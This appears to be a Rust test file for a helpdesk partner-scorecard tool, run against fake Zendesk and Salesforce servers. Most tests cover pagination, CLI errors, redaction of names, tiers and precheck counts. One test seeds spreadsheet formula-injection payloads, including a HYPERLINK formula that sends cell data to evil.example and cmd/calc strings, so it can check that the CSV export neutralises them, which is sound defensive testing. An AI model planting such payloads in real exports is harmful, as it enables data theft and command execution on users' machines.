        id: "360001".into(),
        number: "000001001".into(),
        title: "Reset a payroll run".into(),
        url_name: "reset-a-payroll-run".into(),
        summary: "How a payroll run is reset.".into(),
        answer_html: "<p>How it is done.</p>".into(),
        language: "en_US".into(),
        status: "Online".into(),
        last_published: "2025-06-01T00:00:00.000+0000".into(),
    });
    state.fails.push(crate::fakes::salesforce::Fail {
        method: "GET",
        path_contains: "/query".into(),
        status: 403,
        error_code: "REQUEST_LIMIT_EXCEEDED",
        times: 1,
    });
    state
}

/// The Salesforce connector `acme-sf` on `fake`, with the survey's fields and these
/// `[helpdesk.verdict_fields]` lines besides `detail` and `overturn`.
fn sf_connector(fake: &FakeSalesforce, verdict_fields: &str) -> Connector {
    let opts = helpers::Options {
        fields_toml: "Blind_CSAT__c = \"csat_score\"\nBlind_CES__c = \"ces_score\"\nBlind_CSAT_About__c = \"csat_about\"\nBlind_Comment__c = \"csat_comment\"\nContact_Email__c = \"end_customer_email\"\n".into(),
        extra_toml: format!(
            "{}{CONTRACTS}[helpdesk.verdict_fields]\ndetail = \"Escalation_Quality_Detail__c\"\noverturn = \"Escalation_Overturn_Reason__c\"\n{verdict_fields}",
            survey_table()
        ),
        vars: survey_vars(),
        ..helpers::Options::default()
    };
    build_connector(fake, "acme-sf", &opts)
}

#[tokio::test]
async fn salesforce_scorecard_figure_by_figure_through_next_records_url() {
    let specs = specs();
    let fake = FakeSalesforce::start(sf_org(&specs, |_, _| {})).await;
    let connector = sf_connector(&fake, "");
    let card = scorecard(&connector, None, Audience::Vendor).await;
    check_scorecard(&card, &specs);
    // Knowledge shows the article the Cases name; the one it does not have stays an id.
    assert_eq!(
        card.articles.keys().collect::<Vec<_>>(),
        ["360001"],
        "{:?}",
        card.articles
    );
    assert_eq!(card.articles["360001"].title, "Reset a payroll run");
    // 330 Cases in the period, 200 a batch: the first page, a refused try, and one more.
    assert_eq!(fake.count("GET", "/query"), 3);
    assert_eq!(fake.count("GET", "/query/01g"), 1);
}

// ----- the command --------------------------------------------------------------------------

#[tokio::test]
async fn the_report_command_writes_each_format_and_refuses_bad_input() {
    let specs = specs();
    let zendesk = seeded_zendesk(&specs).await;
    let dir = connectors_dir(&connector_toml(API_TOKEN_AUTH, "helpdesk", CONTRACTS));
    let base = FIRST_QUARTER;
    for (format, first) in [
        ("csv", "partner,month,"),
        ("json", "{"),
        ("html", "<!DOCTYPE html>"),
    ] {
        let out_file = dir.path().join(format!("q1.{format}"));
        let mut args = base.to_vec();
        args.extend(["--format", format, "--out", out_file.to_str().unwrap()]);
        let out = run_command("report", &args, dir.path(), &zendesk).await;
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let written = std::fs::read_to_string(&out_file).unwrap();
        assert!(
            written.starts_with(first),
            "{format}: {}",
            &written[..40.min(written.len())]
        );
    }
    let json: Value =
        serde_json::from_str(&std::fs::read_to_string(dir.path().join("q1.json")).unwrap())
            .unwrap();
    assert_eq!(json["tickets"], json!(IN_PERIOD));
    // --to is the last day included.
    assert_eq!(json["to"], json!("2026-04-01T00:00:00Z"));
    for ((connector, from, to), extra, says) in [
        (
            ("acme", "2026-01-01", "2026-03-31"),
            &["--audience", "partner"][..],
            "needs --partner",
        ),
        (
            ("acme", "2026-01-01", "2025-12-01"),
            &[][..],
            "is before --from",
        ),
        (
            ("acme", "2026-01-01", "2026-03-31"),
            &["--format", "pdf"][..],
            "invalid value 'pdf'",
        ),
        (
            ("acme", "2026-01-32", "2026-03-31"),
            &[][..],
            "invalid value '2026-01-32'",
        ),
        (
            ("nope", "2026-01-01", "2026-03-31"),
            &[][..],
            "no connector `nope`",
        ),
    ] {
        let mut args = vec!["--connector", connector, "--from", from, "--to", to];
        args.extend(extra);
        let out = run_command("report", &args, dir.path(), &zendesk).await;
        assert!(!out.status.success());
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains(says), "{err}");
    }
}

// ----- what a scorecard says, and refuses -----------------------------------------------------

#[test]
fn names_after_greetings_salutations_and_sign_offs_are_removed() {
    let none = report::partner_patterns(&BTreeSet::new());
    for (comment, name) in [
        ("Hi Ottilie, thanks! All sorted.", "Ottilie"),
        ("Hello, Marc-André: the fix worked.", "Marc-André"),
        ("Dear Mr. O'Brien, it works now.", "O'Brien"),
        ("Dear Dr Anna Smith, thank you.", "Smith"),
        ("Hey Sam! Quick and kind.", "Sam"),
        ("Good morning Priya, the export works.", "Priya"),
        ("Thanks Jonas for the quick fix", "Jonas"),
        ("Thank you, Mei Ling. Great help", "Ling"),
        ("Great help.\nRegards,\nJane Doe", "Doe"),
        ("Solved fast. Best Regards, Karl Heinz", "Karl"),
        ("Cheers Tom", "Tom"),
        ("Hallo Jörg, alles gut.", "Jörg"),
        ("Sehr geehrte Frau Müller, danke.", "Müller"),
        ("Bonjour Amélie, merci !", "Amélie"),
        ("Merci, Chloé", "Chloé"),
        ("Hola Lucía, gracias.", "Lucía"),
        ("Hej Åsa! Tack.", "Åsa"),
        ("Ciao Giulia, grazie mille.", "Giulia"),
    ] {
        let c = report::redact(comment, &none);
        assert!(
            !c.contains(name) && c.contains("[name]"),
            "{comment:?} → {c:?}"
        );
    }
    // Capitalised words after a greeting that are not names stay.
    for comment in [
        "Hi There, all good.",
        "Thanks Again for the help",
        "Hello Team, quick answer.",
    ] {
        assert_eq!(report::redact(comment, &none), comment);
    }
}

/// The vendor scorecard of the generated cases with [`CONTRACTS`] but `min_escalations`.
async fn scorecard_with_min_escalations(min: u64) -> Scorecard {
    let zendesk = seeded_zendesk(&specs()).await;
    let contracts = CONTRACTS.replace("min_escalations = 20", &format!("min_escalations = {min}"));
    let connector = zendesk_connector_with(&zendesk, format!("{}{contracts}", survey_table()));
    scorecard(&connector, None, Audience::Vendor).await
}

#[tokio::test]
async fn a_partner_below_the_minimum_sample_has_not_enough_data_for_a_tier() {
    // No partner has 500 judged escalations in the quarter.
    let card = scorecard_with_min_escalations(500).await;
    let json = serde_json::to_value(&card).unwrap();
    for p in json["partners"].as_array().unwrap() {
        let t = &p["tier"];
        assert_eq!(t["reached"], Value::Null, "{t}");
        assert_eq!(t["uncertain"], json!(false), "{t}");
        assert_eq!(t["not_enough_data"], json!(true), "{t}");
    }
    let html = render::html(&card);
    assert!(!html.contains("(uncertain)"));
    // In the overview and in each partner's section.
    assert_eq!(
        html.matches("none <span class=\"nodata\">(not enough data)</span>")
            .count(),
        6
    );
    let csv = render::csv(&card).unwrap();
    let mut rows = csv::Reader::from_reader(csv.as_bytes());
    let header = rows.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    for r in rows.records().map(Result::unwrap) {
        assert_eq!(
            (&r[col("tier_uncertain")], &r[col("tier_not_enough_data")]),
            ("false", "true")
        );
    }
}

#[tokio::test]
async fn a_tier_note_names_only_figures_that_could_change_the_tier() {
    let specs = specs();
    let zendesk = seeded_zendesk(&specs).await;
    let card = scorecard(&zendesk_connector(&zendesk), None, Audience::Vendor).await;
    let acme = |card: &Scorecard| {
        card.partners
            .iter()
            .find(|p| p.partner == "Acme IT Services")
            .unwrap()
            .clone()
    };
    let csat = acme(&card).period.surveys.support_csat.unwrap().value;
    // Gold asks for Acme's own support CSAT (its interval straddles it) and a ratio no
    // interval reaches: the ratio rules Gold out, whatever the CSAT.
    let contracts = format!(
        "[report]\ntarget = 0.80\nmin_escalations = 20\nmin_answers = 10\n\n\
         [[report.tiers]]\nname = \"Gold\"\nlabel = \"discount +5 %\"\nmin_good_ratio = 0.99\nmin_support_csat = {csat}\n\n\
         [[report.tiers]]\nname = \"Silver\"\nlabel = \"bonus 1 %\"\nmin_good_ratio = 0.10\n"
    );
    let connector = zendesk_connector_with(&zendesk, format!("{}{contracts}", survey_table()));
    let acme = acme(&scorecard(&connector, None, Audience::Vendor).await);
    let t = acme.tier.unwrap();
    assert_eq!(
        (t.reached.as_deref(), t.next.as_deref()),
        (Some("Silver"), Some("Gold"))
    );
    assert!(t.notes.is_empty() && !t.uncertain, "{t:?}");
    assert!(
        t.missed_by
            .iter()
            .any(|m| m.contains("good-escalation ratio"))
    );
}

#[tokio::test]
async fn an_edition_for_no_partner_or_of_an_empty_period_is_refused() {
    let specs = specs();
    let zendesk = seeded_zendesk(&specs).await;
    let connector = zendesk_connector(&zendesk);
    let options = Options {
        period: period(),
        partner: Some("Acme".into()),
        audience: Audience::Partner,
    };
    let err = report::build(
        report::Source::of(&connector).expect("the helpdesk reads a period back"),
        &options,
        &indicatif::ProgressBar::hidden(),
    )
    .await
    .expect_err("a partner that does not exist")
    .to_string();
    assert!(
        err.contains("known partners: Acme IT Services, Contoso Partners, Northwind Support"),
        "{err}"
    );
    let dir = connectors_dir(&connector_toml(API_TOKEN_AUTH, "helpdesk", CONTRACTS));
    let out_file = dir.path().join("edition.html");
    for (extra, (from, to), says) in [
        (
            &["--audience", "partner", "--partner", "Acme"][..],
            ("2026-01-01", "2026-03-31"),
            "no partner `Acme` in the period's tickets or in `[report.partners]` (names are matched exactly, as the connector writes them); known partners: Acme IT Services, Contoso Partners, Northwind Support",
        ),
        (
            &[][..],
            ("2027-01-01", "2027-01-31"),
            "nothing to report: connector `acme` has no ticket created from 2027-01-01 to 2027-01-31 (UTC); no scorecard written",
        ),
        (
            // A partner of the contracts, without a case in the period.
            &["--audience", "partner", "--partner", "Northwind Support"][..],
            ("2027-01-01", "2027-01-31"),
            "nothing to report: no case of partner `Northwind Support` from 2027-01-01 to 2027-01-31 (UTC)",
        ),
    ] {
        let mut args = vec!["--connector", "acme", "--from", from, "--to", to];
        args.extend(extra);
        args.extend(["--out", out_file.to_str().unwrap()]);
        let out = run_command("report", &args, dir.path(), &zendesk).await;
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success() && err.contains(says), "{err}");
        assert!(!out_file.exists(), "nothing written");
    }
}

#[tokio::test]
async fn without_the_organizations_sideload_the_partners_are_read_with_show_many() {
    let specs = specs();
    let zendesk = seeded_zendesk(&specs).await;
    zendesk.set_export_sideloads(false);
    let card = scorecard(&zendesk_connector(&zendesk), None, Audience::Vendor).await;
    check_scorecard(&card, &specs);
    let shown: Vec<String> = zendesk
        .requests()
        .into_iter()
        .filter(|r| r.path.starts_with("/api/v2/organizations/show_many"))
        .map(|r| r.query.unwrap_or_default())
        .collect();
    // The first page names all three partners: each organization is asked for once.
    assert_eq!(shown, ["ids=501%2C502%2C503"]);
    // The command says so on standard error.
    let dir = connectors_dir(&connector_toml(API_TOKEN_AUTH, "helpdesk", CONTRACTS));
    let args = [&FIRST_QUARTER[..], &["--format", "json"]].concat();
    let out = run_command("report", &args, dir.path(), &zendesk).await;
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        out.status.success()
            && err.contains("Export Search Results did not sideload the tickets' organizations; reading them with Show Many Organizations"),
        "{err}"
    );
    let json: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["without_partner"], json!(card.without_partner));
}

#[tokio::test]
async fn articles_are_named_by_their_title_and_link() {
    let specs = specs();
    let zendesk = seeded_zendesk(&specs).await;
    for (id, title) in [
        (360001, "Reset a payroll run"),
        (360002, "Credit notes with reverse charge VAT"),
    ] {
        zendesk.put_article(article(
            id,
            title,
            "How it is done.",
            "2025-06-01T00:00:00Z",
        ));
    }
    let connector = zendesk_connector(&zendesk);
    let vendor = scorecard(&connector, None, Audience::Vendor).await;
    let json = serde_json::to_value(&vendor).unwrap();
    let reset = &json["articles"]["360001"];
    assert_eq!(reset["title"], "Reset a payroll run", "{json}");
    let url = reset["url"].as_str().unwrap();
    assert!(url.contains("/articles/360001"), "{url}");
    let html = render::html(&vendor);
    let link = format!("<a href=\"{url}\">Reset a payroll run</a>");
    // The knowledge view, each partner's articles and the enablement lists.
    assert!(html.matches(&link).count() >= 3, "{html}");
    let acme =
        render::html(&scorecard(&connector, Some("Acme IT Services"), Audience::Partner).await);
    let table = &acme[acme.find("<h3>Bad escalations</h3>").unwrap()..];
    assert!(table.contains(&link) && table.contains("Credit notes with reverse charge VAT"));
    // Each article once a scorecard.
    assert_eq!(zendesk.count("GET /api/v2/help_center/articles/360001"), 2);
    // The command with an embedded knowledge base reads its article folder (no index built).
    let articles = tempfile::tempdir().unwrap();
    std::fs::write(
        articles.path().join("reset.md"),
        "---\nid: 360001\ntitle: Reset a payroll run\nurl: https://help.ledgerly.example/articles/360001\nlocale: en-us\npublished: 2025-06-01\n---\nHow it is done.\n",
    )
    .unwrap();
    let dir = connectors_dir(&connector_toml(
        API_TOKEN_AUTH,
        "local",
        &format!("path = \"{}\"\n{CONTRACTS}", articles.path().display()),
    ));
    let args = [&FIRST_QUARTER[..], &["--format", "json"]].concat();
    let out = run_command("report", &args, dir.path(), &zendesk).await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let json: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        json["articles"],
        json!({"360001": {"id": "360001", "title": "Reset a payroll run",
                          "url": "https://help.ledgerly.example/articles/360001"}})
    );
}

#[tokio::test]
async fn the_html_states_its_days_and_name_and_a_small_partners_period() {
    // Every month has fewer than 40 judged escalations of a partner; the quarter has more.
    let card = scorecard_with_min_escalations(40).await;
    for p in &card.partners {
        assert!(p.months.iter().all(|m| m.figures.good_ratio.is_none()));
        assert!(p.period.good_ratio.is_some());
    }
    let html = render::html(&card);
    // The survey's company names the vendor, not the connector id.
    assert!(
        html.contains("<title>Partner scorecard: Ledgerly</title>"),
        "{}",
        &html[..400]
    );
    assert!(html.contains("from 2026-01-01 to 2026-03-31 (UTC, both days included)"));
    assert!(!html.contains("2026-04-01"));
    assert_eq!(
        html.matches("The months are not shown: each has fewer than 40 judged escalations")
            .count(),
        3
    );
    assert_eq!(html.matches("<circle class=\"point\"").count(), 3);
}

#[tokio::test]
async fn without_a_comment_field_the_scorecard_says_comments_are_not_read() {
    let specs = specs();
    let zendesk = seeded_zendesk(&specs).await;
    let survey = survey_toml(
        "kind = \"webhook\"\nurl = \"http://127.0.0.1:9/requests\"\nsecret = \"${SURVEY_WHSEC}\"",
        TICKET_SINK,
    );
    let connector = zendesk_connector_with(&zendesk, format!("{survey}{CONTRACTS}"));
    let vendor = render::html(&scorecard(&connector, None, Audience::Vendor).await);
    assert!(vendor.contains("the survey maps no <code>comment_field</code>"));
    let acme =
        render::html(&scorecard(&connector, Some("Acme IT Services"), Audience::Partner).await);
    assert!(!acme.contains("What customers said about support"));
    assert!(!acme.contains("No comments in this period"));
}

#[tokio::test]
async fn csv_cells_a_spreadsheet_would_run_are_made_inert() {
    let zendesk = zendesk().await;
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+SUM(1+1)|cmd",
        "-2+3+cmd|calc",
        "@SUM(A1:A2)",
    ];
    for (i, name) in names.iter().enumerate() {
        let org = 700 + i as u64;
        zendesk.put_organization(json!({"id": org, "name": name}));
        zendesk.put_ticket(json!({
            "id": 20_000 + i as u64,
            "subject": "Totals look wrong",
            "description": "generated",
            "status": "solved",
            "tags": ["escalation_good"],
            "requester_id": REQUESTER_ID,
            "organization_id": org,
            "created_at": "2026-02-02T10:00:00Z",
            "updated_at": "2026-02-03T10:00:00Z",
        }));
    }
    let connector = zendesk_connector(&zendesk);
    for (partner, audience) in [
        (None, Audience::Vendor),
        (Some(names[1]), Audience::Partner),
    ] {
        let card = scorecard(&connector, partner, audience).await;
        let csv = render::csv(&card).unwrap();
        let mut rows = csv::Reader::from_reader(csv.as_bytes());
        let mut partners = BTreeSet::new();
        for r in rows.records().map(Result::unwrap) {
            for cell in &r {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell}"
                );
            }
            partners.insert(r[0].to_string());
        }
        let want: BTreeSet<String> = names
            .iter()
            .filter(|n| partner.is_none_or(|p| p == **n))
            .map(|n| format!("'{n}"))
            .collect();
        assert_eq!(partners, want);
    }
}

/// The escalations the check before escalating marked: for the first partner, bad on three
/// drafts sent clean, on two sent as they were, and good on one; for the second, who never
/// fixes what the check finds, bad on two sent as they were.
fn prechecked_specs(specs: &[Spec]) -> [(u64, &'static str); 8] {
    let of = |partner: usize, v: &str| {
        specs
            .iter()
            .filter(move |s| {
                s.partner == Some(PARTNERS[partner].0)
                    && s.escalated
                    && s.verdict == Some(v)
                    && s.reviewed.is_none()
                    && (period().from..period().to).contains(&s.created)
            })
            .map(|s| s.id)
            .collect::<Vec<_>>()
    };
    let (good, bad, careless) = (of(0, "good"), of(0, "bad"), of(1, "bad"));
    assert!(
        good.len() >= 4 && bad.len() >= 2 && careless.len() >= 2,
        "{good:?} {bad:?} {careless:?}"
    );
    [
        (good[0], "bad"),
        (good[1], "bad"),
        (good[2], "bad"),
        (bad[0], "bad"),
        (bad[1], "bad"),
        (good[3], "good"),
        (careless[0], "bad"),
        (careless[1], "bad"),
    ]
}

/// The scorecard counts the escalations [`prechecked_specs`] marked, each for its partner.
fn check_prechecks(card: &Scorecard) {
    let of = |n: usize| {
        &card
            .partners
            .iter()
            .find(|p| p.partner == PARTNERS[n].0)
            .unwrap()
            .period
            .prechecks
    };
    assert_eq!(
        of(0),
        &report::Prechecks {
            checked: 6,
            fixed_before_sending: 3,
            sent_despite_check: 2,
            abandoned_after_article: 0,
        }
    );
    assert_eq!(
        of(1),
        &report::Prechecks {
            checked: 2,
            fixed_before_sending: 0,
            sent_despite_check: 2,
            abandoned_after_article: 0,
        }
    );
    let html = report::render::html(card);
    assert!(
        html.contains("Checked before escalating: <b>6</b> escalations; of those the check found bad, <b>3</b> were fixed before sending and <b>2</b> sent as they were."),
        "the vendor's scorecard says it"
    );
    assert!(
        html.contains("Checked before escalating: <b>2</b> escalations; of those the check found bad, <b>0</b> were fixed before sending and <b>2</b> sent as they were."),
        "for the partner who sends what the check found anyway too"
    );
    assert_eq!(of(2).checked, 0, "the partner whose drafts nobody checked");
}

#[tokio::test]
async fn the_scorecard_counts_drafts_abandoned_after_the_check_showed_an_article() {
    let specs = specs();
    let zendesk = seeded_zendesk(&specs).await;
    let not_escalated = |partner: usize| {
        specs
            .iter()
            .filter(move |s| {
                s.partner == Some(PARTNERS[partner].0)
                    && !s.escalated
                    && s.verdict.is_none()
                    && (period().from..period().to).contains(&s.created)
            })
            .collect::<Vec<_>>()
    };
    let (acme, northwind) = (not_escalated(0), not_escalated(1));
    assert!(acme.len() >= 5 && northwind.len() >= 2);
    let precheck_field = |value: &str| json!({"id": PRECHECK_FIELD, "value": value});
    // Acme: three drafts the app's check showed an article for, then solved without escalating;
    // one whose check showed none; one shown an article and still open.
    let mut marked = Vec::new();
    for (s, tags, status) in [
        (
            acme[0],
            vec!["escalation_precheck_bad", "escalation_precheck_article"],
            "solved",
        ),
        (
            acme[1],
            vec!["escalation_precheck_review", "escalation_precheck_article"],
            "closed",
        ),
        (
            acme[2],
            vec!["escalation_precheck_good", "escalation_precheck_article"],
            "solved",
        ),
        (acme[3], vec!["escalation_precheck_bad"], "solved"),
        (
            acme[4],
            vec!["escalation_precheck_bad", "escalation_precheck_article"],
            "open",
        ),
    ] {
        let mut t = zendesk_ticket(s);
        t["status"] = json!(status);
        t["tags"]
            .as_array_mut()
            .unwrap()
            .extend(tags.into_iter().map(|x| json!(x)));
        marked.push(t);
    }
    // Northwind: one from the request form, whose snippet filled the precheck field, and one
    // whose form check showed no article.
    for (s, value) in [(northwind[0], "bad+article"), (northwind[1], "good")] {
        let mut t = zendesk_ticket(s);
        t["custom_fields"]
            .as_array_mut()
            .unwrap()
            .push(precheck_field(value));
        marked.push(t);
    }
    for t in marked {
        zendesk.put_ticket(t);
    }
    let connector = zendesk_connector(&zendesk);
    let card = scorecard(&connector, None, Audience::Vendor).await;
    let json: Value = serde_json::from_str(&render::render(&card, Format::Json).unwrap()).unwrap();
    let abandoned: BTreeMap<&str, &Value> = json["partners"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            (
                p["partner"].as_str().unwrap(),
                &p["period"]["prechecks"]["abandoned_after_article"],
            )
        })
        .collect();
    assert_eq!(
        abandoned,
        BTreeMap::from([
            (PARTNERS[0].0, &json!(3)),
            (PARTNERS[1].0, &json!(1)),
            (PARTNERS[2].0, &json!(0)),
        ])
    );
    let acme_card = card
        .partners
        .iter()
        .find(|p| p.partner == PARTNERS[0].0)
        .unwrap();
    assert_eq!(
        acme_card.period.prechecks.checked, 0,
        "none of them was escalated"
    );

    let csv = render::render(&card, Format::Csv).unwrap();
    let column = csv
        .lines()
        .next()
        .unwrap()
        .split(',')
        .position(|h| h == "abandoned_after_article")
        .expect("a CSV column");
    let period_of = |partner: &str| {
        csv.lines()
            .map(|l| l.split(',').collect::<Vec<_>>())
            .find(|r| r[0] == partner && r[1] == "period")
            .unwrap()[column]
            .to_string()
    };
    assert_eq!(period_of(PARTNERS[0].0), "3");
    assert_eq!(period_of(PARTNERS[1].0), "1");
    let html = render::html(&card);
    assert!(
        html.contains("Drafts abandoned after the check showed an article (solved without escalating): <b>3</b>."),
        "the vendor's scorecard says it"
    );
}

#[tokio::test]
async fn the_scorecard_counts_what_the_check_before_escalating_prevented() {
    let specs = specs();
    let zendesk = seeded_zendesk(&specs).await;
    for (id, said) in prechecked_specs(&specs) {
        let s = specs.iter().find(|s| s.id == id).unwrap();
        let mut t = zendesk_ticket(s);
        t["tags"]
            .as_array_mut()
            .unwrap()
            .push(json!(format!("escalation_precheck_{said}")));
        zendesk.put_ticket(t);
    }
    let connector = zendesk_connector(&zendesk);
    check_prechecks(&scorecard(&connector, None, Audience::Vendor).await);
}

#[tokio::test]
async fn the_salesforce_scorecard_reads_what_the_check_said_from_the_precheck_field() {
    let specs = specs();
    let marked = prechecked_specs(&specs);
    let fake = FakeSalesforce::start(sf_org(&specs, |s, case| {
        let said = marked
            .iter()
            .find(|(id, _)| *id == s.id)
            .map(|(_, said)| *said);
        case.insert("Escalation_Precheck__c".into(), json!(said));
    }))
    .await;
    let connector = sf_connector(&fake, "precheck = \"Escalation_Precheck__c\"\n");
    check_prechecks(&scorecard(&connector, None, Audience::Vendor).await);
}
